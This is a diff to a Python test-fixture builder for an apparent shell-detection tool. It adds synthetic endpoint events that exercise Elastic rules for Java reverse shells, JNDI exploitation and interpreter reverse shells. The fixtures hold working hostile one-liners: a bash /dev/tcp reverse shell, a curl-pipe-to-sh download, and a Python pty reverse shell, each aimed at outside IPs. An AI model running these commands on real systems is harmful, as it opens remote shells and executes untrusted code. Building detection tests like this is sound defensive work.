@@ -19,7 +19,7 @@ from typing import Any
 
 import orjson
 
-from shellwatch.samples.ecs_factory import JAVA, connection, execution
+from shellwatch.samples.ecs_factory import JAVA, connection, entity_id, execution
 
 __all__ = ["SCENARIOS", "SCENARIO_DIR", "build_all"]
 
@@ -77,9 +77,10 @@ class Conn:
     event_id: str
     executable: str = JAVA
     action: str = "connection_attempted"
+    started_ms: int | None = None  # when the process was started (its Exec's ms), so both name one entity
 
     def doc(self, host: str) -> Doc:
-        return connection(
+        doc = connection(
             ts_ms=T0 + self.ms,
             host_id=host,
             pid=self.pid,
@@ -89,6 +90,9 @@ class Conn:
             executable=self.executable,
             action=self.action,
         )
+        if self.started_ms is not None:
+            doc["process"]["entity_id"] = entity_id(host, self.pid, str(T0 + self.started_ms))
+        return doc
 
 
 @dataclass(frozen=True, slots=True)
@@ -140,6 +144,9 @@ def children(
 class Scenario:
     description: str
     hosts: dict[str, list[Event]]  # each host's events, in the order its endpoint wrote them
+    # Elastic's rule files (tests/rules/elastic) the scenario runs beside the bundled rules: copied verbatim into
+    # its rules/ directory, which detect and the worker are given as SHELLWATCH_RULES
+    rules: tuple[str, ...] = ()
 
     def docs(self) -> list[Doc]:
         return [event.doc(host) for host, events in self.hosts.items() for event in events]
@@ -285,6 +292,72 @@ def benign_noise() -> Scenario:
     )
 
 
+# -------------------------------------------------------- scenarios of Elastic's rules (SHELLWATCH_RULES)
+
+SPRING_APP = java("-Xms512m", "-jar", "/srv/orders/orders-service.jar")
+ELASTIC_JAVA_REVSHELL = Scenario(
+    "Elastic's Potential Reverse Shell via Java: Java -jar connects out, then sh runs a reverse shell",
+    {
+        "ers-app-01": [
+            Conn(70_000, 7100, "194.26.29.113", 443, "ers-conn"),
+            Exec(
+                72_500,
+                7177,
+                7100,
+                "ers-exec-revshell",
+                "sh",
+                sh("sh -i >& /dev/tcp/194.26.29.113/443 0>&1"),
+                SPRING_APP,
+            ),
+        ],
+        # the same idiom under a build server's war file, which the rule's own exclusions leave out
+        "ers-ci-01": [
+            Conn(70_200, 7300, "140.82.114.4", 443, "ers-ci-conn"),
+            Exec(71_000, 7377, 7300, "ers-ci-exec", "sh", sh("git fetch origin"), JENKINS),
+        ],
+    },
+    rules=("execution_shell_via_java_revshell_linux.toml",),
+)
+
+SOLR = Parent(
+    "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
+    ["/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "-server", "-Dsolr.solr.home=/var/solr/data", "-jar", "start.jar"],
+)
+ELASTIC_JNDI_LDAP = Scenario(
+    "Elastic's Potential JAVA/JNDI Exploitation Attempt: Java reaches LDAP on 1389, then curl pipes to sh",
+    {
+        "jndi-solr-01": [
+            Conn(80_000, 8100, "45.155.205.233", 1389, "jndi-conn-ldap", SOLR.executable),
+            Exec(80_900, 8177, 8100, "jndi-exec-curl", "sh", sh("curl -s http://45.155.205.233:8000/x.sh | sh"), SOLR),
+        ],
+        # LDAP to a directory server, then a child 2 minutes later: past the rule's 1 minute
+        "jndi-auth-01": [
+            Conn(80_000, 8200, "185.199.108.10", 389, "jndi-auth-ldap", SOLR.executable),
+            Exec(200_000, 8277, 8200, "jndi-auth-exec", "sh", sh("/opt/solr/bin/rotate.sh"), SOLR),
+        ],
+    },
+    rules=("execution_suspicious_java_netcon_childproc.toml",),
+)
+
+SHELL = Parent("/bin/bash", ["/bin/bash"])
+PTY_CODE = "import socket,pty,os;s=socket.socket();s.connect(('91.92.241.10',9001));"
+PTY = ["/usr/bin/python3", "-c", PTY_CODE + "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"]
+ELASTIC_LOLBIN_REVSHELL = Scenario(
+    "Elastic's Potential Reverse Shell via Suspicious Child Process: a shell starts a Python pty, which connects out",
+    {
+        "lol-web-01": [
+            Exec(90_000, 9177, 9100, "lol-exec-pty", "python3", PTY, SHELL),
+            Conn(90_300, 9177, "91.92.241.10", 9001, "lol-conn-out", "/usr/bin/python3", started_ms=90_000),
+        ],
+        # the same Python to loopback only: the rule leaves 127.0.0.0/8 out
+        "lol-dev-01": [
+            Exec(90_000, 9277, 9200, "lol-dev-pty", "python3", PTY, SHELL),
+            Conn(90_400, 9277, "127.0.0.1", 9001, "lol-dev-conn", "/usr/bin/python3", started_ms=90_000),
+        ],
+    },
+    rules=("execution_shell_via_lolbin_interpreter_linux.toml",),
+)
+
 SCENARIOS: dict[str, Scenario] = {
     "log4shell-callback": LOG4SHELL_CALLBACK,
     "confluence-ognl": CONFLUENCE_OGNL,
@@ -293,7 +366,11 @@ SCENARIOS: dict[str, Scenario] = {
     "private-only": PRIVATE_ONLY,
     "gap-5001ms": GAP_5001MS,
     "benign-noise-50-hosts": benign_noise(),
+    "elastic-java-revshell": ELASTIC_JAVA_REVSHELL,
+    "elastic-jndi-ldap": ELASTIC_JNDI_LDAP,
+    "elastic-lolbin-revshell": ELASTIC_LOLBIN_REVSHELL,
 }
+VENDORED = Path(__file__).parents[1] / "rules" / "elastic"
 
 
 def _ordered(docs: list[Doc]) -> list[Doc]:
@@ -309,12 +386,15 @@ def rendered(name: str) -> tuple[bytes, bytes]:
 
 
 def build_all() -> None:
-    for name in SCENARIOS:
+    for name, scenario in SCENARIOS.items():
         directory = SCENARIO_DIR / name
         directory.mkdir(parents=True, exist_ok=True)
         description, events = rendered(name)
         (directory / "description.txt").write_bytes(description)
         (directory / "events.ndjson").write_bytes(events)
+        for rule in scenario.rules:
+            (directory / "rules").mkdir(exist_ok=True)
+            (directory / "rules" / rule).write_bytes((VENDORED / rule).read_bytes())
         count = len(events.splitlines())
         sys.stderr.write(f"{name}: {count} events\n")
 
